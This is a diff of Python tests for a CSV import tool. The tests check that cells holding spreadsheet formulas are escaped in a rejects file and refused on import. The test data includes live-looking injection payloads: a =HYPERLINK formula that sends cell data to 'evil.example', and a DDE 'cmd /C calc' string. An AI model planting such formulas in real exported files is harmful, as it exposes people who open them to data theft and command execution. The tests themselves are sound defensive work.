@@ -483,19 +483,20 @@ def test_a_polish_sheet_is_read_by_its_own_column_names_and_gender_letters(mini_
 
 
 def test_the_rejects_file_runs_nothing_in_a_spreadsheet_and_imports_as_it_was(mini_ws, cli, tmp_path):
-    """A stranger's file may name a column =HYPERLINK(…), and a reason starts with the row's
-    name: the rejects file wrote both as they were; and the apostrophes of its cells came
-    back with the next import."""
+    """A stranger's file may name a column =HYPERLINK(…), and put a formula in a name: the
+    rejects file wrote both as they were; and the apostrophes of its cells came back with
+    the next import."""
     source = write_source(
         tmp_path,
         "s.csv",
         'id,category,family_name,notes,"=HYPERLINK(""http://evil.example"",""x"")"\n'
-        "r1,ngo,=1+1,+380 44 123 4567,x\n",
+        "r1,ngo,Smith,+380 44 123 4567,x\n"
+        "r2,ngo,=1+1,,y\n",
     )
     result = run_import(cli, source, "--rejects", str(tmp_path / "rejects.csv"))
     assert result.code == 0, result.err
     text = (tmp_path / "rejects.csv").read_text(encoding="utf-8-sig")
-    header, row = csv.reader(io.StringIO(text, newline=""))
+    header, first, second = csv.reader(io.StringIO(text, newline=""))
     assert header == [
         "row",
         "problem",
@@ -505,12 +506,48 @@ def test_the_rejects_file_runs_nothing_in_a_spreadsheet_and_imports_as_it_was(mi
         "notes",
         '\'=HYPERLINK("http://evil.example","x")',
     ]
-    # the reason starts with the row's name: "=1+1: no contact channel …" ran as a formula too
-    assert row[:2] == ["2", "'=1+1: no contact channel (no e-mail, postal address or web form)"]
-    assert row[2:] == ["r1", "ngo", "'=1+1", "'+380 44 123 4567", "x"]
+    assert first == [
+        "2",
+        "Smith: no contact channel (no e-mail, postal address or web form)",
+        "r1",
+        "ngo",
+        "Smith",
+        "'+380 44 123 4567",
+        "x",
+    ]
+    assert second[:2] == [
+        "3",
+        "family_name '=1+1' is a formula a spreadsheet would run, not a name or an office",
+    ]
+    assert second[2:5] == ["r2", "ngo", "'=1+1"]
     result = run_import(
         cli, tmp_path / "rejects.csv", "--keep-no-contact", "--map", "row=ignore", "--map", "problem=ignore"
     )
     assert result.code == 0, result.err
-    (r1,) = rows_of(mini_ws.root / "recipients" / "rejects.csv")
-    assert (r1["family_name"], r1["notes"]) == ("=1+1", "+380 44 123 4567")
+    (r1,) = rows_of(mini_ws.root / "recipients" / "rejects.csv")  # the formula is refused again
+    assert (r1["family_name"], r1["notes"]) == ("Smith", "+380 44 123 4567")
+
+
+def test_a_name_or_an_office_that_is_a_formula_is_not_imported(mini_ws, cli, tmp_path):
+    """A list made to attack whoever opens the directory's CSV in a spreadsheet: its formula
+    would sit in recipients/*.csv as it was, and run there. A dash standing for "none" and
+    a negative number are no formulas."""
+    source = write_source(
+        tmp_path,
+        "s.csv",
+        "id,category,given_name,family_name,position,organisation,email\n"
+        'a1,ngo,Eve,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",,Group,eve@example.org\n'
+        "a2,ngo,Ann,Lee,@SUM(1+1)*cmd|' /C calc'!A0,Group,ann@example.org\n"
+        "a3,ngo,Bo,Ek,-,Group,bo@example.org\n"
+        "a4,ngo,+Cy,Ode,,Group,cy@example.org\n",
+    )
+    result = run_import(cli, source, "--into", "new.csv")
+    assert result.code == 0, result.err
+    assert (
+        'in/s.csv:2:4: family_name \'=HYPERLINK("http://evil.example/?"&A1,"click")\' is a formula a '
+        "spreadsheet would run, not a name or an office"
+    ) in result.out
+    assert "in/s.csv:3:5: position '@SUM(1+1)*cmd|' /C calc'!A0' is a formula" in result.out
+    assert "in/s.csv:5:3: given_name '+Cy' is a formula" in result.out
+    assert result_line(result.out) == "Result: 1 added, 0 updated, 0 unchanged, 3 skipped (of 4 rows)."
+    assert sorted(by_id(mini_ws.root / "recipients" / "new.csv")) == ["a3"]
